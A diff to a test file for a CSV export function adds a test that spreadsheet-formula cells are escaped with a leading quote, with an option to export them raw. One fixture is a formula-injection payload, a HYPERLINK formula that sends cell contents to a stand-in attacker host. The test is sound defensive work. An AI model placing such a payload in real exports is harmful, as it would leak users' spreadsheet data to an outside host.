@@ -129,11 +129,32 @@ describe('the CSV download', () => {
     expect(csvDownload('t', checkSimulatedOutput({ columns: ['only'], rows: [[null], ['']] })).body).toBe('only\n""\n""');
   });
 
+  it('escapes cells a spreadsheet would run as formulas with a leading quote; formulas: raw writes them as stored', () => {
+    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const outputs = checkSimulatedOutput({
+      columns: ['cell', 'number'],
+      rows: [
+        [attack, -1.5],
+        ['+1+2', 3],
+        ['-2+3', 0],
+        ['@SUM(A1)', 1],
+        ['\tX', 2],
+        ['plain = text', -7],
+      ],
+    });
+    expect(csvDownload('t', outputs).body).toBe(
+      'cell,number\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1.5\n\'+1+2,3\n\'-2+3,0\n\'@SUM(A1),1\n\'\tX,2\nplain = text,-7',
+    );
+    expect(csvDownload('t', outputs, { formulas: 'raw' }).body).toBe(
+      'cell,number\n"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1.5\n+1+2,3\n-2+3,0\n@SUM(A1),1\n\tX,2\nplain = text,-7',
+    );
+  });
+
   it('is empty for a block without a table, and refused past its cap', () => {
     expect(csvDownload('export', checkSimulatedOutput({ text: 'done' })).body).toBe('');
     expect(csvDownload('export', []).body).toBe('');
     const outputs = checkSimulatedOutput({ columns: ['x'], rows: Array.from({ length: 100 }, (_, i) => [i]) });
-    expect(refusal(() => csvDownload('load', outputs, 50)).message).toBe("The CSV of block load's output is over 50 bytes; it is not sent.");
+    expect(refusal(() => csvDownload('load', outputs, { maxBytes: 50 })).message).toBe("The CSV of block load's output is over 50 bytes; it is not sent.");
     // The largest stored table stays within the default cap, even with every value quoted.
     const worst = checkSimulatedOutput({ columns: ['q'], rows: Array.from({ length: 900 }, () => ['"'.repeat(60)]) });
     expect(csvDownload('w', worst).body.length).toBeGreaterThan(outputBytes(worst));
